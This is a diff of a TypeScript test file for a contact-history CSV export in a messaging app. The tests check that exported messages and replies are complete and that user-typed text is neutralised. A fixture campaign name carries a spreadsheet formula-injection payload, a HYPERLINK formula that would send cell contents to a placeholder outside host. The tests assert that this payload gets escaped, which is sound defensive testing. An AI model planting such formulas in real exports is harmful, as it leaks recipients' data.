@@ -2,8 +2,8 @@ import * as XLSX from 'xlsx';
 import { describe, expect, it } from 'vitest';
 import { twoProportionTest } from '../../../../shared/domain/results/abTest';
 import { ratesOf, type Funnel } from '../../../../shared/domain/results/funnel';
-import type { CampaignReport, WeeklyReview } from '../../db/reports';
-import { campaignReportTables, reportCsvText, reportWorkbook, reportXlsxBytes, sheetName, weeklyReviewTables } from './exportReport';
+import type { CampaignReport, ContactHistory, WeeklyReview } from '../../db/reports';
+import { campaignReportTables, contactHistoryTables, reportCsvText, reportWorkbook, reportXlsxBytes, sheetName, weeklyReviewTables } from './exportReport';
 import { createTranslator } from '../../i18n';
 import { resultsWords } from '../../i18n/results';
 
@@ -120,5 +120,49 @@ describe('weekly review export', () => {
     expect(sheetName('When customers read and reply (shop time): Reads', taken)).toBe('When customers read and reply (');
     expect(sheetName('When customers read and reply (shop time): Replies', taken)).toBe('When customers read and reply 2');
     expect(reportWorkbook(weeklyReviewTables(review, w)).SheetNames).toHaveLength(5);
+  });
+});
+
+describe('contact history export', () => {
+  const history = (messages: number): ContactHistory => ({
+    contact: { id: 7, name: '@Mina', phone: '+821012345678' } as ContactHistory['contact'],
+    messages: Array.from({ length: messages }, (_, i) => ({
+      job: `c${i}-0`,
+      campaign: `c${i}`,
+      campaignName: i === 0 ? EVIL : `Campaign ${i}`,
+      sandbox: i % 2 === 0,
+      ...(i === 1 ? { variant: 'B' as const } : {}),
+      stage: i === 0 ? ('replied' as const) : ('delivered' as const),
+      sentAt: 1_000 + i,
+      deliveredAt: 2_000 + i,
+      ...(i === 0 ? { readAt: 3_000, repliedAt: 4_000 } : {}),
+      at: 2_000 + i,
+    })),
+    replies: [
+      { seq: 1, at: 4_000, type: 'text', text: '+1 more please', optOut: 'none', job: 'c0-0', campaign: 'c0' },
+      { seq: 2, at: 5_000, type: 'image', optOut: 'none' },
+      { seq: 3, at: 6_000, type: 'text', text: 'STOP', optOut: 'opt_out' },
+    ],
+  });
+  const words = { w, stage: (s: string) => `stage:${s}`, time: (at: number) => `t${at}` };
+
+  it('lists every message (not only the 50 the dialog shows) and every reply, with times and campaigns', () => {
+    const l = lines(reportCsvText(contactHistoryTables(history(60), words)));
+    expect(l[0]).toBe(`Contact history,'@Mina,+821012345678`); // an E.164 number stays as it is (csvOut.ts)
+    expect(l).toContain('Campaign,Simulated (Sandbox),Version,Status,Sent at,Delivered at,Read at,Replied at');
+    expect(l).toContain('Campaign 1,no,B,stage:delivered,t1001,t2001,,');
+    expect(l).toContain('Campaign 59,no,,stage:delivered,t1059,t2059,,');
+    expect(l.filter((x) => x.includes('stage:'))).toHaveLength(60);
+    expect(l).toContain('Time,Text,Opt-out,Campaign');
+    expect(l).toContain('t5000,(image),no,');
+    expect(l).toContain('t6000,STOP,yes,');
+  });
+
+  it('neutralises what the customer and the shop typed', () => {
+    const csv = reportCsvText(contactHistoryTables(history(2), words));
+    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")",yes,,stage:replied,t1000,t2000,t3000,t4000`);
+    expect(lines(csv)).toContain(`t4000,'+1 more please,no,"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
+    // Nothing starts a cell with a bare formula character, but for the phone number (exactly E.164).
+    for (const line of lines(csv)) expect(line, line).not.toMatch(/(^|,)"?(?!\+[1-9]\d{6,14}(,|$))[=+@]/);
   });
 });
